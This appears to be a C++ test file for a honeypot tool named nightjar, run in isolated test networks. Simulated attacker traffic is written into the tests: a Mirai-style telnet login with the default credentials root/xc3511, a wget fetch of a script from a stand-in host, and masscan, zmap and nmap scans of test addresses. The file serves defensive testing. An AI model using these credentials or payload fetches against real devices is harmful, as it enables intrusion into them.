// `nightjar honeypot` as operators start it, and the programs of clients and scanners before it, in networks of the test's own.
#include <gtest/gtest.h>
#include <pwd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <thread>

#include "station/tcp_door_network.hpp"
#include "support/program.hpp"
#include "support/temp_folder.hpp"

namespace nightjar {
namespace {

using test::Caller;
using test::check;
using test::content_of;
using test::OwnNetwork;
using test::PotNetwork;
using test::Program;

bool comes_true(const std::function<bool()>& what) {
  for (int tries = 0; tries < 300; ++tries) {
    if (what()) return true;
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  return false;
}

/// What a command of the shell prints, its errors too; at most half a minute.
std::string output_of(const std::string& command) {
  std::string output;
  std::FILE* pipe = popen(("{ " + command + " ; } 2>&1 </dev/null").c_str(), "r");
  if (pipe == nullptr) return "cannot start it";
  char bytes[4096];
  while (const std::size_t got = std::fread(bytes, 1, sizeof bytes, pipe)) output.append(bytes, got);
  pclose(pipe);
  return output;
}
bool prints(const std::string& command, const std::string& words) {
  const std::string output = output_of(command);
  return check(output.find(words) != output.npos, command + " prints '" + words + "', not: " + output);
}
std::size_t times_in(const std::string& text, const std::string& word) {
  std::size_t times = 0;
  for (std::size_t at = text.find(word); at != text.npos; at = text.find(word, at + 1)) ++times;
  return times;
}

class HoneypotCommand : public ::testing::Test {
 protected:
  void SetUp() override {
    if (getuid() != 0) GTEST_SKIP() << "rules and routes want root";
    if (!OwnNetwork::allowed()) GTEST_SKIP() << "this machine allows no networks of one's own (unshare -n), or lacks the ip command";
    if (!OwnNetwork::command("nft --version")) GTEST_SKIP() << "nft is not installed (Debian package nftables)";
    std::filesystem::permissions(folder_.path(), std::filesystem::perms(0755));
  }
  std::string path(const char* name) const { return (folder_ / name).string(); }
  static bool installed(const std::string& program) {
    const bool there = OwnNetwork::command("command -v " + program);
    if (!there) std::printf("left out, as it is not installed: %s\n", program.c_str());
    return there;
  }
  std::string said() const { return content_of(path("said")); }
  std::string told() const { return content_of(path("told")); }

  /// A sensor that runs `nightjar honeypot` with these words; `meanwhile` runs in its clients' network. Ended by SIGTERM.
  bool at_sensor(std::vector<std::string> words, const std::function<bool()>& meanwhile) {
    return OwnNetwork::passes([&] {
      const PotNetwork network;
      if (!check(network.good(), "networks")) return false;
      words.insert(words.begin(), "honeypot");
      words.insert(words.end(), {"--say", "--state", path("state")});
      Program honeypot(NIGHTJAR_BINARY, words, {}, path("told"), path("said"));
      if (!check(comes_true([&] { return said().find("answering at") != std::string::npos; }), "it answers: " + said())) return false;
      network.enter_clients();
      const bool good = meanwhile();
      network.enter_sensor();
      honeypot.kill(SIGTERM);
      return check(honeypot.wait().status == 0, "it ends well: " + said()) && good;
    });
  }
  TempFolder folder_;
};

TEST_F(HoneypotCommand, OrdinaryClientsGetWhatTheyExpect) {
  const std::string login = "(for w in root xc3511 '/bin/busybox MIRAI'; do sleep 0.4; echo \"$w\"; done; sleep 0.4)";
  EXPECT_TRUE(at_sensor({"--transparent", "45.0.0.0/24", "--rules", "apply"}, [&] {
    bool good = true;
    if (installed("curl")) {
      good = prints("curl -s -m 5 -i http://45.0.0.9:8080/", "HTTP/1.") && good;
      good = prints("curl -s -m 5 -i http://45.0.0.9:51234/", "HTTP/1.") && good;
    }
    if (installed("telnet")) {
      const std::string output = output_of(login + " | timeout 10 telnet 45.0.0.9");
      good = check(output.find("MIRAI: applet not found") != output.npos, "telnet: " + output) && good;
    }
    if (installed("redis-cli")) {
      good = prints("timeout 5 redis-cli -h 45.0.0.7 ping", "PONG") && prints("timeout 5 redis-cli -h 45.0.0.7 set x y", "OK") && good;
    }
    if (installed("ssh")) {
      good = prints("timeout 10 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@45.0.0.8",
                    "SSH2_MSG_KEXINIT received") &&
             good;
    }
    if (installed("smbclient")) {
      good = prints("timeout 10 smbclient -N -L //45.0.0.9 -m NT1 --option='client min protocol=NT1'", "Sharename") && good;
    }
    return good;
  }));
  EXPECT_NE(told().find(R"("dst":"45.0.0.7","dst_port":6379,"service":"redis","bytes_in":)"), std::string::npos) << told();
}

TEST_F(HoneypotCommand, ScannersFindOpenPortsAndUnprovenOnesOnlyTen) {
  const std::string gateway = "02:00:00:00:00:0a";
  std::ofstream(path("empty")) << "\n";
  EXPECT_TRUE(at_sensor({"--transparent", "45.0.0.0/24", "--wide", "45.0.8.0/22", "-i", "vs", "--rules", "apply"}, [&] {
    bool good = true;
    // How many open ports of the transparent and of the wide net it finds.
    const auto masscan = [&](const std::string& source) {
      const std::string output = output_of("timeout 60 masscan 45.0.0.0/29,45.0.8.0/29 -p23,80 --rate 400 --wait 4 -e vc --router-mac " +
                                           gateway + " --adapter-ip " + source);
      return std::pair{times_in(output, "/tcp on 45.0.0."), times_in(output, "/tcp on 45.0.8.")};
    };
    const auto told_of = [](const std::pair<std::size_t, std::size_t>& found) {
      return std::to_string(found.first) + " and " + std::to_string(found.second);
    };
    if (installed("masscan")) {
      // It never finishes a handshake: who sends nothing but SYNs may be anybody (safety rule 18).
      const auto found = masscan("45.2.0.2");
      good = check(found.first >= 8 && found.first <= 10 && found.second >= 8 && found.second <= 10,
                   "masscan finds 8 to 10 ports a net, not " + told_of(found)) &&
             good;
    }
    for (const char* address : {"45.0.0.9", "45.0.8.9"}) {
      Caller proof("45.1.0.2", address, 80);
      proof.say("GET / HTTP/1.0\r\n\r\n");
      good = check(proof.is_closed(), "a conversation proves the source") && good;
    }
    if (installed("masscan")) {
      auto found = masscan("45.1.0.2");
      // It asks once and waits for so long only: on a machine with other work an answer may come too late.
      for (int again = 0; again < 2 && (found.first != 16 || found.second != 16); ++again) found = masscan("45.1.0.2");
      good =
          check(found.first == 16 && found.second == 16, "masscan of a proven source finds 16 ports a net, not " + told_of(found)) && good;
    }
    if (installed("zmap")) {
      for (const char* net : {"45.0.0.8/29", "45.0.8.8/29"}) {
        const std::string output = output_of("timeout 25 zmap -q -p 2323 -i vc -G " + gateway + " -S 45.1.0.2 -r 200 -c 1 -b " +
                                             path("empty") + " -o - " + std::string(net));
        good = check(times_in(output, "\n45.0.") + (output.starts_with("45.0.") ? 1 : 0) == 8, "zmap finds 8 hosts: " + output) && good;
      }
    }
    if (installed("nmap")) {
      good = prints("timeout 30 nmap -n -Pn -sS -p 1,65535 45.0.8.9", "65535/tcp open") && good;
    }
    return good;
  }));
}

TEST_F(HoneypotCommand, GivesRootsRightsAwayAndTakesItsRulesBack) {
  const passwd* nobody = getpwnam("nobody");
  if (nobody == nullptr) GTEST_SKIP() << "this machine has no user 'nobody'";
  const std::string as_nobody = "setpriv --reuid=nobody --regid=" + std::to_string(nobody->pw_gid) + " --clear-groups ";
  if (!OwnNetwork::command(as_nobody + NIGHTJAR_BINARY + " --version"))
    GTEST_SKIP() << "the user 'nobody' cannot run the program where it lies here";
  std::filesystem::create_directories(path("state"));
  ASSERT_EQ(chown(path("state").c_str(), nobody->pw_uid, nobody->pw_gid), 0);
  EXPECT_TRUE(OwnNetwork::passes([&] {
    const PotNetwork network;
    OwnNetwork::command("sysctl -w net.ipv4.tcp_synack_retries=3");
    const auto kernel = [] {
      return output_of("nft list tables; ip route show table local; ip -6 route show table local; sysctl net.ipv4.tcp_synack_retries");
    };
    const std::string before = kernel();
    Program honeypot(NIGHTJAR_BINARY,
                     {"honeypot", "--transparent", "45.0.0.0/24", "--transparent", "2a00:45::/48", "--wide", "45.0.8.0/22", "-i", "vs",
                      "--rules", "apply", "--user", "nobody", "--state", path("state")},
                     {}, path("told"), path("said"));
    if (!check(comes_true([&] { return said().find("answering at") != std::string::npos; }), said())) return false;
    const std::string during = kernel();
    bool good = check(during.find("nightjar_pots") != during.npos && during.find("local 45.0.8.0/22 dev lo") != during.npos &&
                          during.find("tcp_synack_retries = 0") != during.npos,
                      "rules and routes: " + during);
    // The one that answers, not the one that waits for it.
    const std::string rights = output_of("for p in $(pgrep -u nobody -f -- '--state " + path("state") +
                                         "'); do grep -E 'CapPrm|CapBnd|NoNewPrivs|Seccomp:' /proc/$p/status; done");
    good = check(rights == "CapPrm:\t0000000000000000\nCapBnd:\t0000000000000000\nNoNewPrivs:\t1\nSeccomp:\t2\n", "no rights: " + rights) &&
           good;
    network.enter_clients();
    Caller caller("", "45.0.0.9", 6379);
    good = check(caller.say("PING\r\n") && caller.hear() == "+PONG\r\n", "it answers all the same") && good;
    network.enter_sensor();
    honeypot.kill(SIGTERM);
    good = check(honeypot.wait().status == 0, said()) && good;
    return check(kernel() == before, "all is as it was: " + kernel()) && good;
  }));
  // A new run would give everybody the shares of a minute again.
  EXPECT_NE(content_of(path("state/last-run")).find("ended "), std::string::npos);
  EXPECT_EQ(content_of(path("state/seed")).size(), 33u);
}

TEST_F(HoneypotCommand, WhatAKilledOneLeftIsRemoved) {
  EXPECT_TRUE(OwnNetwork::passes([&] {
    const PotNetwork network;
    OwnNetwork::command("sysctl -w net.ipv4.tcp_synack_retries=3");
    const auto kernel = [] { return output_of("nft list tables; ip route show table local; sysctl net.ipv4.tcp_synack_retries"); };
    const std::string before = kernel();
    const std::vector<std::string> way{"honeypot", "--transparent", "45.0.0.0/24", "--state", path("state"), "--rules"};
    auto applied = way, removed = way;
    applied.emplace_back("apply");
    removed.emplace_back("remove");
    Program honeypot(NIGHTJAR_BINARY, applied, {}, path("told"), path("said"));
    if (!check(comes_true([&] { return said().find("answering at") != std::string::npos; }), said())) return false;
    honeypot.kill(SIGKILL);
    honeypot.wait();
    // The one that answers does not stay without the one that would take the rules back.
    bool good =
        check(comes_true([&] { return output_of("pgrep -f -- '--state " + path("state") + " --rules appl[y]'").empty(); }), "both end");
    good = check(kernel().find("tcp_synack_retries = 0") != std::string::npos, "the rules are still there: " + kernel()) && good;
    Program undo(NIGHTJAR_BINARY, removed, {}, path("told"), path("said"));
    good = check(undo.wait().status == 0, said()) && good;
    return check(kernel() == before, "all is as it was: " + kernel()) && good;
  }));
}

TEST_F(HoneypotCommand, WhatIsCapturedBesideItBecomesSessions) {
  EXPECT_TRUE(OwnNetwork::passes([&] {
    const PotNetwork network;
    Program capture(NIGHTJAR_BINARY,
                    {"capture", "-i", "vs", "--sensor", "pot", "--kind", "honeypot", "--segments", path("segments"), "--no-lake",
                     "--keep-free-mb", "0", "tcp"},
                    {"NIGHTJAR_GEODATA="}, "/dev/null", path("captured"));
    if (!check(comes_true([&] { return content_of(path("captured")).find("capturing on") != std::string::npos; }), "a capture"))
      return false;
    Program honeypot(NIGHTJAR_BINARY, {"honeypot", "--transparent", "45.0.0.0/24", "--rules", "apply", "--state", path("state")}, {},
                     path("told"), path("said"));
    if (!check(comes_true([&] { return said().find("answering at") != std::string::npos; }), said())) return false;
    network.enter_clients();
    {
      Caller caller("45.2.0.2", "45.0.0.9", 23);
      bool good = !caller.hear_until("ogin").empty() && caller.say("\xff\xfb\x1froot\r\n") && !caller.hear_until("assword").empty() &&
                  caller.say("xc3511\r\n") && !caller.hear_until("# ").empty() && caller.say("wget http://198.51.100.7/x.sh\r\n");
      caller.hear_until("# ");
      if (!check(good, "a login")) return false;
    }
    network.enter_sensor();
    honeypot.kill(SIGTERM);
    capture.kill(SIGTERM);
    const bool good = check(honeypot.wait().status == 0, said()) && check(capture.wait().status == 0, content_of(path("captured")));
    const std::string nightjar = std::string(NIGHTJAR_BINARY) + " --quiet --lake " + path("lake") + " ";
    const std::string ingested = output_of("NIGHTJAR_GEODATA= " + nightjar + "ingest --sensor pot --kind honeypot " + path("segments"));
    const std::string sessions = output_of(nightjar + "sql --format csv 'SELECT * FROM sessions'");
    return check(sessions.find("root") != sessions.npos && sessions.find("xc3511") != sessions.npos &&
                     sessions.find("198.51.100.7/x.sh") != sessions.npos,
                 "a login and an address in the lake: " + ingested + sessions) &&
           good;
  }));
}

TEST_F(HoneypotCommand, SaysWhatIsWrong) {
  const auto honeypot = [&](const std::string& words) {
    return output_of("timeout 10 " + std::string(NIGHTJAR_BINARY) + " honeypot " + words + " --state " + path("state") +
                     "; echo status $?");
  };
  const auto expect = [&](const std::string& words, const std::string& sentence, const std::string& status) {
    const std::string output = honeypot(words);
    EXPECT_NE(output.find(sentence), std::string::npos) << words << ": " << output;
    EXPECT_NE(output.find("status " + status + "\n"), std::string::npos) << words << ": " << output;
  };
  expect("", "say where to answer", "2");
  expect("--transparent 0.0.0.0/0", "larger than any net of one sensor", "2");
  expect("--transparent 45.0.0.1/24", "45.0.0.0/24", "2");
  expect("--transparent 45.0.0.0/24 --wide 45.0.0.0/16 -i lo", "overlap", "2");
  expect("--wide 45.0.0.0/16", "belong together", "2");
  expect("--listen here", "an IP address of this machine", "2");
  expect("--listen 127.0.0.1 --rules print", "needs no rules", "2");
  expect("--listen 127.0.0.1 --port 70000", "70000", "2");
  expect("--listen 127.0.0.1 --user no-such-user", "there is no user 'no-such-user'", "1");
  expect("--transparent 45.0.0.0/24 --rules print", "nft -f - <<'END'", "0");
  EXPECT_TRUE(OwnNetwork::passes([&] {
    const auto says = [&](const std::string& words, const std::string& sentence) {
      const std::string output = honeypot(words);
      return check(output.find(sentence) != output.npos, words + ": " + output);
    };
    return says("--wide 45.0.0.0/16 -i nosuch0", "no network interface 'nosuch0'") &&
           says("--listen 45.0.0.9 --port 23", "this machine has no such address") &&
           OwnNetwork::command("ip link add va type veth peer name vb && ip addr add 45.0.0.9/24 dev va") &&
           says("--transparent 45.0.0.0/24", "an address of this machine itself; name blocks without it") &&
           says("--wide 45.0.0.0/24 -i va", "would become unreachable") &&
           // The port of the operator's own SSH is left to him where an address is shared.
           says("--redirect 45.0.0.9 --rules print", "elements = { 22 }");
  }));
}

}  // namespace
}  // namespace nightjar
